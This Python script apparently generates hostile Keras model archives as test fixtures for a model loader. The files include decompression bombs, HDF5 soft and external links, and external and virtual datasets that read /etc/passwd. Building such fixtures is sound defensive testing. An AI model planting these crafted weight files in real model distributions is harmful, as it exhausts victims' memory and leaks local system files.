"""Writes src/test/resources/keras/attacks: archives of Keras' whose weights attack who reads them.

    $(python3 environment.py) attacks.py
"""

import io
import json
import os
import pathlib
import zipfile

os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
os.environ["KERAS_BACKEND"] = "tensorflow"
import h5py
import keras
import numpy as np

FOLDER = pathlib.Path(__file__).parent.parent / "src/test/resources/keras/attacks"
FOLDER.mkdir(parents=True, exist_ok=True)
SIZE = 40_000


def archive(name, units, edit):
    """Saves a model of one layer, with weights as `edit` leaves them."""
    model = keras.Sequential([keras.Input((3,), name="in"), keras.layers.Dense(2, name="dense")], name="m")
    model.save("sound.keras")
    with zipfile.ZipFile("sound.keras") as sound:
        members = {n: sound.read(n) for n in sound.namelist()}
    os.remove("sound.keras")
    if units:
        config = members["config.json"].decode()
        config = config.replace('"units": 2', f'"units": {SIZE}').replace("[null, 3]", f"[null, {SIZE}]")
        members["config.json"] = config.encode()
    file = io.BytesIO(members["model.weights.h5"])
    with h5py.File(file, "r+") as h5:
        edit(h5)
    members["model.weights.h5"] = file.getvalue()
    with zipfile.ZipFile(FOLDER / (name + ".keras"), "w") as out:
        for member, content in members.items():
            out.writestr(zipfile.ZipInfo(member), content)


def bomb(**options):
    def edit(h5):
        values = h5["layers/dense/vars"]
        del values["0"], values["1"]
        values.create_dataset("0", (SIZE, SIZE), "f4", **options)
        values.create_dataset("1", data=np.zeros(SIZE, "f4"), compression="gzip")

    return edit


def link(path, target):
    def edit(h5):
        h5.move(path, "/real")
        h5[path] = target

    return edit


def storage(h5):
    values = h5["layers/dense/vars"]
    del values["0"], values["1"]
    values.create_dataset("0", (3, 2), "f4", external=[("/etc/passwd", 0, 24)])
    layout = h5py.VirtualLayout((2,), "f4")
    layout[:] = h5py.VirtualSource("/etc/passwd", "x", (2,))
    values.create_virtual_dataset("1", layout)


archive("bomb_chunked", True, bomb(chunks=(1000, 1000), compression="gzip"))
archive("bomb_contiguous", True, bomb())
for depth, path in enumerate(("layers", "layers/dense", "layers/dense/vars", "layers/dense/vars/0")):
    archive(f"soft_{depth}", False, link(path, h5py.SoftLink("/real")))
    archive(f"external_{depth}", False, link(path, h5py.ExternalLink("other.h5", "/real")))
archive("storage", False, storage)
